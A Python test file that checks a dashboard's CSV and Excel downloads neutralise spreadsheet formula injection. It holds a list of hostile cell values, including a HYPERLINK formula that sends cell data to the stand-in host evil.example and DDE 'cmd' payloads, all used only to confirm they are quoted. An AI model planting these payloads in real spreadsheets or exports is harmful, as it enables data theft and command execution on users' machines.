"""Downloads: spreadsheet formula injection is neutralised in text columns only.

Decision on text that is only a signed number ("-3", "+1.5", "-1,234", "-12%") in a text column:
it is left as it is. Such a cell cannot call a function or reference a cell, and quoting it would
mangle legitimate negative values kept as text. Anything else starting with =, +, -, @, tab or CR
is prefixed with an apostrophe (see dashboard.export).
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from dashboard.export import is_formula_like, neutralise_formulas, to_csv_bytes, to_xlsx_bytes

PAYLOADS = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-3+A1",
    "=-3",
    "-",
    "+",
    "@",
]
HARMLESS_TEXT = ["-3", "+1.5", "-1,234", "-12%", "ok", "과학기술", "a=b", " =1", "", "3-2"]


def _frame() -> pd.DataFrame:
    n = len(PAYLOADS)
    return pd.DataFrame({
        "name_en": pd.Series(PAYLOADS, dtype="str"),
        "note": pd.Series(PAYLOADS, dtype=object),
        "kind": pd.Series(PAYLOADS, dtype="category"),
        "value": [-(i + 0.5) for i in range(n)],
        "count": pd.array([-i for i in range(n)], dtype="Int64"),
        "flag": [i % 2 == 0 for i in range(n)],
        "date": pd.date_range("2018-01-01", periods=n, freq="D"),
    })


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_formula_like(payload):
    assert is_formula_like(payload)
    assert neutralise_formulas(pd.DataFrame({"t": [payload]}))["t"].iloc[0] == "'" + payload


@pytest.mark.parametrize("text", HARMLESS_TEXT)
def test_harmless_text_is_not_quoted(text):
    assert not is_formula_like(text)
    assert neutralise_formulas(pd.DataFrame({"t": [text]}))["t"].iloc[0] == text


def test_numbers_dates_and_missing_values_are_untouched():
    frame = _frame()
    frame.loc[0, "note"] = None
    safe = neutralise_formulas(frame)
    pd.testing.assert_series_equal(safe["value"], frame["value"])
    pd.testing.assert_series_equal(safe["count"], frame["count"])
    pd.testing.assert_series_equal(safe["flag"], frame["flag"])
    pd.testing.assert_series_equal(safe["date"], frame["date"])
    assert safe["note"].iloc[0] is None
    assert frame["name_en"].iloc[0] == PAYLOADS[0]  # the input frame is not modified


def test_object_column_keeps_real_negative_numbers():
    mixed = pd.DataFrame({"mixed": pd.Series([-3, -1.5, "=1+1", "-3", None], dtype=object)})
    assert list(neutralise_formulas(mixed)["mixed"]) == [-3, -1.5, "'=1+1", "-3", None]


def test_formula_like_headers_are_quoted():
    safe = neutralise_formulas(pd.DataFrame({"=1+1": [1], "-3": [2], "name": [3]}))
    assert list(safe.columns) == ["'=1+1", "-3", "name"]


def test_csv_download_neutralises_every_text_cell():
    data = to_csv_bytes(_frame())
    assert data.startswith(b"\xef\xbb\xbf")  # BOM for Excel
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(PAYLOADS)
    for row, payload in zip(rows, PAYLOADS, strict=True):
        for column in ("name_en", "note", "kind"):
            assert row[column] == "'" + payload
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r"))
        assert float(row["value"]) < 0 and row["value"].startswith("-")  # negative numbers kept
    assert rows[3]["count"] == "-3"


def test_xlsx_download_has_no_formula_cells_and_keeps_numbers():
    workbook = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(_frame())))
    sheet = workbook["data"]
    header = [cell.value for cell in sheet[1]]
    assert header == ["name_en", "note", "kind", "value", "count", "flag", "date"]
    cells = list(sheet.iter_rows(min_row=2))
    assert len(cells) == len(PAYLOADS)
    for row, payload in zip(cells, PAYLOADS, strict=True):
        assert all(cell.data_type != "f" for cell in row)
        # XML stores a carriage return as a line feed; either way the cell starts with the quote.
        assert [cell.value for cell in row[:3]] == ["'" + payload.replace("\r", "\n")] * 3
        assert row[3].data_type == "n" and row[3].value < 0
    assert cells[1][4].value == -1


def test_xlsx_survives_control_characters():
    frame = pd.DataFrame({"name_en": ["bell\x07", "nul\x00", "ok"], "=x\x01": [1, 2, 3]})
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(frame)))["data"]
    assert [c.value for c in sheet["A"]][1:] == ["bell\ufffd", "nul\ufffd", "ok"]
    assert sheet["B1"].value == "'=x\ufffd" and sheet["B1"].data_type != "f"


def test_published_table_download_is_safe():
    """A real table (countries) with hostile names, as the Data page offers it for download."""
    from dashboard.loading import load_csv_tables

    countries = load_csv_tables()["countries"].copy()
    countries.loc[countries.index[0], "name_en"] = "=HYPERLINK(\"http://evil.example\",\"x\")"
    countries.loc[countries.index[1], "name_ko"] = "@SUM(1+1)"
    rows = list(csv.reader(io.StringIO(to_csv_bytes(countries).decode("utf-8-sig"), newline="")))
    flat = [cell for row in rows for cell in row]
    assert "'=HYPERLINK(\"http://evil.example\",\"x\")" in flat and "'@SUM(1+1)" in flat
    assert not [cell for cell in flat if cell.startswith(("=", "@", "\t", "\r"))]
